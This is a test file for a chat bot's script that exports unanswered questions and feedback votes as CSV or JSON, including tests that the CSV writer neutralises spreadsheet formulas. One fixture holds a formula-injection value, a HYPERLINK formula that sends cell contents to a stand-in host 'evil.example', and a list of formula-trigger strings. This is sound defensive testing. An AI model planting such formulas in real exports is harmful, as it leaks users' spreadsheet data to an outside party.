import { describe, expect, it } from 'vitest';
import { openState } from '../../bot/state/state.ts';
import { writeCsv } from '../../scripts/csv.ts';
import { runScript } from '../support/run-script.ts';
import { temporaryDirectory } from '../support/temporary.ts';

const GUILD = '1100000000000000003';
const OTHER = '1100000000000000009';
const EMPTY = 'server,question,count,refused,uncertain,last,wordings\r\n';

const misses = (...parameters: string[]) => runScript('scripts/misses.ts', parameters);

async function dataWith(...questions: readonly [guildId: string, question: string][]): Promise<string> {
  const directory = await temporaryDirectory();
  const state = openState(directory);
  for (const [minute, [guildId, question]] of questions.entries()) {
    const at = new Date(Date.UTC(2100, 0, 1, 0, minute)).toISOString();
    state.misses.add({ guildId, question, outcome: minute === 1 ? 'uncertain' : 'refused', at }, 30);
  }
  state.close();
  return directory;
}

describe('npm run misses', () => {
  it('prints what was asked and not answered as CSV, grouped, of all servers or of one', async () => {
    const data = await dataWith(
      [GUILD, 'Who counts the bees, and "why"?'],
      [GUILD, 'Why, and who counts the bees?'],
      [OTHER, '=HYPERLINK("http://evil.example/"&A1)'],
    );
    const { exitCode, stdout, stderr } = await misses('--data', data);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
    expect(stdout).toBe(
      [
        EMPTY.trimEnd(),
        `${GUILD},"Why, and who counts the bees?",2,1,1,2100-01-01T00:01:00.000Z,2`,
        `${OTHER},"'=HYPERLINK(""http://evil.example/""&A1)",1,1,0,2100-01-01T00:02:00.000Z,1`,
        '',
      ].join('\r\n'),
    );
    expect((await misses('--data', data, '--guild', OTHER)).stdout.split('\r\n')).toHaveLength(3);
  });

  it('prints JSON with all wordings', async () => {
    const data = await dataWith([GUILD, 'Who counts the bees?'], [GUILD, 'The bees: who counts them?']);
    const { stdout } = await misses('--data', data, '--json');
    expect(JSON.parse(stdout)).toEqual([
      {
        guildId: GUILD,
        question: 'The bees: who counts them?',
        wordings: ['Who counts the bees?', 'The bees: who counts them?'],
        count: 2,
        refused: 1,
        uncertain: 1,
        last: '2100-01-01T00:01:00.000Z',
      },
    ]);
  });

  it('says when nothing is kept, and makes nothing where the bot has never been', async () => {
    const data = `${await temporaryDirectory()}/never`;
    const { exitCode, stdout, stderr } = await misses('--data', data);
    expect({ exitCode, stdout, stderr }).toEqual({
      exitCode: 0,
      stdout: EMPTY,
      stderr: 'No question without an answer is kept.\n',
    });
    expect((await misses('--data', data, '--json')).stdout).toBe('[]\n');
  });

  it('prints votes against answers with their reasons, newest first, and titles where there is an index', async () => {
    const data = await dataWith();
    const state = openState(data);
    const vote = {
      guildId: GUILD,
      userId: '1100000000000000042',
      helpful: false,
      passageId: null,
      reason: null,
    };
    const at = (minute: number) => new Date(Date.UTC(2100, 0, 1, 0, minute)).toISOString();
    const passageId = '0123456789ab';
    state.feedback.put({
      ...vote,
      messageId: '1',
      question: 'Why, then?',
      passageId,
      reason: '=A, "b"',
      at: at(0),
    });
    state.feedback.put({ ...vote, messageId: '2', question: 'Fine?', helpful: true, at: at(1) });
    state.feedback.put({ ...vote, messageId: '3', question: 'Who?', guildId: OTHER, at: at(2) });
    state.feedback.put({ ...vote, messageId: '4', question: 'In private?', guildId: null, at: at(3) });
    state.close();
    const { exitCode, stdout, stderr } = await misses('--data', data, '--votes');
    expect(exitCode).toBe(0);
    expect(stderr).toMatch(/^Titles are left out\. /u);
    expect(stdout).toBe(
      [
        'server,question,passage,title,reason,at',
        `,In private?,,,,${at(3)}`,
        `${OTHER},Who?,,,,${at(2)}`,
        `${GUILD},"Why, then?",${passageId},,"'=A, ""b""",${at(0)}`,
        '',
      ].join('\r\n'),
    );
    const ofOne = await misses('--data', data, '--votes', '--json', '--guild', OTHER);
    expect(JSON.parse(ofOne.stdout)).toEqual([
      { guildId: OTHER, question: 'Who?', passageId: null, title: null, reason: null, at: at(2) },
    ]);
  });

  it('tells what is wrong with a server id', async () => {
    const { exitCode, stderr } = await misses('--guild', 'mine');
    expect(exitCode).toBe(2);
    expect(stderr).toMatch(/^--guild mine is no server id/u);
  });
});

describe('CSV', () => {
  it('puts fields in quotation marks where they need them', () => {
    expect(writeCsv([['a', 'b,c', 'd"e', 'f\ng', ' h', -1]])).toBe('a,"b,c","d""e","f\ng"," h",-1\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1',
    '\n+1',
  ])('lets no spreadsheet take %j for a formula', (text) => {
    const [field = ''] = writeCsv([[text]]).split('\r\n');
    expect(field.replace(/^"/u, '')).toMatch(/^'/u);
  });

  it('leaves questions as they are', () => {
    expect(writeCsv([['What is 1 + 1 = 2?', 'non-aligned']])).toBe('What is 1 + 1 = 2?,non-aligned\r\n');
  });
});
